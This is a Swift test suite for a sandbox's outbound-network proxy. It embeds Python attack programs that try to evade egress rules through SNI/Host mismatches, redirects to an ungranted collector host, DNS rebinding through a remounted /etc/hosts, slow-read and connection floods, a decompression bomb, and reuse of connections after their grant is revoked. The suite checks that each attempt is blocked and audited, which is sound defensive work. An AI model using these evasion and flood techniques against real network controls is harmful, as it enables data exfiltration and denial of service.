import Foundation
import Glibc
import SystemPackage
import Testing

/// Attacks on the way out that need more than bytes on a socket: TLS, time, and numbers. The others
/// are in `Attacks/`.
@Suite(.serialized, .timeLimit(.minutes(5))) struct EgressAttackTests {
  private static let rules = "rules: [{ allow: \"* /**\" }]"

  @Test func `TLS for another name, or for none, goes nowhere`() async throws {
    let program =
      AttackText.opening + #"""
        def lead(label, host, name, lines=""):
            try:
                peer = tls(host, name)
                peer.sendall(f"GET /MARK-{label} HTTP/1.1\r\nHost: {name or host}:{TLS}\r\n{lines}\r\n".encode())
                print(label, hear(peer)[:12])
            except (OSError, ValueError) as error:
                print(label, type(error).__name__)
        for kind in ("passed", "inspected"):
            lead(kind + "-other-name", f"{kind}.example.com", "other.example.com")
            lead(kind + "-ungranted-name", f"{kind}.example.com", "evil.example.com")
            lead(kind + "-no-name", f"{kind}.example.com", "")
        peer = tls("inspected.example.com")
        for host in (f"other.example.com:{TLS}", "other.example.com", f"inspected.example.com:1"):
            try:
                peer.sendall(f"GET /MARK-host HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                print("host", hear(peer)[:12])
            except OSError:
                pass
        """#
    try await HostileWorld.with { world in
      let free = try await world.unsealed(program)
      #expect(free.status == .exited(0), "\(free.error)")
      #expect(try world.received("tls").range(of: Data("MARK-passed-no-name".utf8)) != nil)
      try world.forget()
      let result = try await world.sealed(
        world.entry("passed.example.com") + world.entry("inspected.example.com", Self.rules)
          + world.entry("other.example.com", Self.rules),
        program
      )
      #expect(result.status == .exited(0), "\(result.error)")
      #expect(try world.received("tls").range(of: Data("MARK".utf8)) == nil, "\(result.output)")
      let audit = try await world.audit()
      #expect(audit.contains("names: SNI, Host and the address agree"))
      #expect(audit.contains("built-in: one connection, one name"))
    }
  }

  @Test func `a redirect to a place that is not granted is judged anew`() async throws {
    let program =
      AttackText.opening + #"""
        import urllib.request
        place = "127.0.0.1" if UNSEALED else "plain.example.com"
        if UNSEALED:
            found = socket.getaddrinfo
            socket.getaddrinfo = lambda host, *rest, **more: found("127.0.0.1", *rest, **more)
        try:
            print(urllib.request.urlopen(f"http://{place}:{PLAIN}/redirect", timeout=5).status)
        except OSError as error:
            print(type(error).__name__)
        """#
    try await HostileWorld.with { world in
      let free = try await world.unsealed(program)
      #expect(free.output == "200\n", "\(free.error)")
      #expect(try !world.received("collector").isEmpty)
      try world.forget()
      let result = try await world.sealed(
        "  - { host: plain.example.com, ports: [\(world.plain)], addresses: [127.0.0.1], \(Self.rules) }\n",
        program
      )
      #expect(result.output != "200\n")
      #expect(try world.received("plain").range(of: Data("/redirect".utf8)) != nil)
      #expect(try world.received("collector").isEmpty)
      #expect(try await world.audit().contains("collector.example.net"))
    }
  }

  @Test(.enabled(if: geteuid() == 0, "only root can give a name another meaning"))
  func `a granted name that lies inside is not connected to`() async throws {
    let program =
      AttackText.opening + #"""
        try:
            peer = socket.create_connection(("rebound.example.com", COLLECTOR), 5)
            peer.sendall(f"GET / HTTP/1.1\r\nHost: rebound.example.com:{COLLECTOR}\r\n\r\n".encode())
            print(hear(peer)[:12])
        except OSError as error:
            print(type(error).__name__)
        """#
    try await HostileWorld.with { world in
      try Data("127.0.0.1 rebound.example.com\n::1 rebound.example.com\n".utf8)
        .write(to: URL(filePath: world.directory.appending("hosts").string))
      let before = "mount --bind \(world.directory.appending("hosts").string) /etc/hosts && exec "
      let free = try await world.unsealed(program, within: before)
      #expect(free.output == "b'HTTP/1.1 200'\n", "\(free.error)")
      #expect(try !world.received("collector").isEmpty)
      try world.forget()
      let result = try await world.sealed(
        "  - { host: rebound.example.com, ports: [\(world.collector)] }\n",
        program,
        within: before
      )
      #expect(result.status == .exited(0), "\(result.error)")
      #expect(try world.received("collector").isEmpty)
      let audit = try await world.audit()
      #expect(audit.contains("the built-in rule 'no addresses of the inside'"), "\(audit)")
    }
  }

  @Test func `slow and many connections leave the way out alive, and its memory flat`() async throws
  {
    let program =
      AttackText.opening + #"""
        import resource, struct
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
        def alive(label):
            heard = ask("api.example.com", "/alive")
            print(label, heard[9:12].decode())
        def raw(port=PLAIN):
            return connect("plain.example.com", port)
        held = []
        for _ in range(100):
            peer = raw()
            peer.sendall(b"GET / HTTP/1.1\r\nHost: plain")
            held.append(peer)
        alive("half-heads")
        for _ in range(10):
            peer = raw()
            peer.sendall(f"GET /large HTTP/1.1\r\nHost: plain.example.com:{PLAIN}\r\n\r\n".encode())
            held.append(peer)
        time.sleep(1)
        alive("slow-readers")
        for size in range(200):
            peer = raw()
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            peer.sendall(b"POST / HTTP/1.1\r\nHost: plain.example.com\r\nTransfer-Encoding: chunked\r\n\r\n5\nhello"[:size % 80 + 1])
            peer.close()
        alive("resets")
        flood = []
        try:
            for _ in range(1500):
                flood.append(raw())
        except OSError:
            pass
        for peer in flood:
            peer.close()
        time.sleep(0.5)
        alive("flood")
        heard = 0
        peer = tls("api.example.com")
        peer.settimeout(10)
        peer.sendall(f"GET /bomb HTTP/1.1\r\nHost: api.example.com:{TLS}\r\nAccept-Encoding: gzip\r\n"
                     f"Authorization: Bearer {os.environ.get('TOKEN')}\r\n\r\n".encode())
        try:
            while piece := peer.recv(1 << 20):
                heard += len(piece)
        except OSError:
            pass
        alive("bomb")
        print("end")
        """#
    try await HostileWorld.with { world in
      try await world.store("TOKEN", "--host", "api.example.com")
      let watch = Task { await Self.largestEgress(below: getpid()) }
      let result = try await world.sealed(
        world.entry("api.example.com", "credential: TOKEN, \(Self.rules)")
          + "  - { host: plain.example.com, ports: [\(world.plain)], addresses: [127.0.0.1], \(Self.rules) }\n",
        program
      )
      watch.cancel()
      #expect(
        result.output
          == "half-heads 200\nslow-readers 200\nresets 200\nflood 200\nbomb 200\nend\n",
        "\(result.error)"
      )
      let largest = await watch.value
      #expect(largest > 0 && largest < 512 << 20, "\(largest >> 20) MiB")
      #expect(try await world.audit().contains("limit: connections"))
    }
  }

  @Test func `a connection does not outlive its grant`() async throws {
    let program =
      AttackText.opening + #"""
        held = [tls("passed.example.com"), tls("inspected.example.com")]
        for peer, name in zip(held, ("passed", "inspected")):
            peer.sendall(f"GET /before HTTP/1.1\r\nHost: {name}.example.com:{TLS}\r\n\r\n".encode())
            print(hear(peer)[:12], flush=True)
        deadline = time.time() + 20
        while time.time() < deadline:
            try:
                held[0].settimeout(0.2)
                if held[0].recv(1) == b"":
                    break
            except TimeoutError:
                continue
            except OSError:
                break
        for peer, name in zip(held, ("passed", "inspected")):
            try:
                peer.sendall(f"GET /MARK HTTP/1.1\r\nHost: {name}.example.com:{TLS}\r\n\r\n".encode())
                print("after", hear(peer)[9:12])
            except OSError:
                print("after", b"")
            print("anew", ask(f"{name}.example.com", "/MARK")[9:12])
        """#
    try await HostileWorld.with { world in
      let entries =
        world.entry("passed.example.com") + world.entry("inspected.example.com", Self.rules)
      async let running = world.sealed(entries, program)
      for _ in 0..<200 {
        if try world.received("tls").range(of: Data("host: inspected".utf8)) != nil { break }
        try await Task.sleep(for: .milliseconds(100))
      }
      try await Task.sleep(for: .milliseconds(800))
      let revoked = try await Command.caisson("revoke", "last", home: world.home).run()
      #expect(revoked.status == .exited(0), "\(revoked.error)")
      let result = try await running
      #expect(result.status == .exited(0), "\(result.error)")
      #expect(result.output.contains("b'HTTP/1.1 200'"))
      #expect(!result.output.contains("after b'200'") && !result.output.contains("anew b'200'"))
      #expect(try world.received("tls").range(of: Data("MARK".utf8)) == nil, "\(result.output)")
    }
  }

  /// The most memory that a way out held whose run descends from a process.
  private static func largestEgress(below ancestor: pid_t) async -> Int {
    var largest = 0
    while !Task.isCancelled {
      for name in (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? [] {
        guard let pid = pid_t(name),
          let status = try? String(contentsOfFile: "/proc/\(pid)/status", encoding: .utf8),
          status.hasPrefix("Name:\tcaisson-egress\n"), descends(pid, from: ancestor),
          let line = status.split(separator: "\n").first(where: { $0.hasPrefix("VmHWM:") }),
          let kilobytes = Int(line.split(separator: " ").dropLast().last ?? "")
        else { continue }
        largest = max(largest, kilobytes << 10)
      }
      try? await Task.sleep(for: .milliseconds(100))
    }
    return largest
  }

  private static func descends(_ pid: pid_t, from ancestor: pid_t) -> Bool {
    var current = pid
    for _ in 0..<16 where current > 1 {
      if current == ancestor { return true }
      guard let stat = try? String(contentsOfFile: "/proc/\(current)/stat", encoding: .utf8),
        let end = stat.lastIndex(of: ")"),
        let parent = stat[stat.index(after: end)...].split(separator: " ").dropFirst().first
      else { return false }
      current = pid_t(parent) ?? 0
    }
    return current == ancestor
  }
}
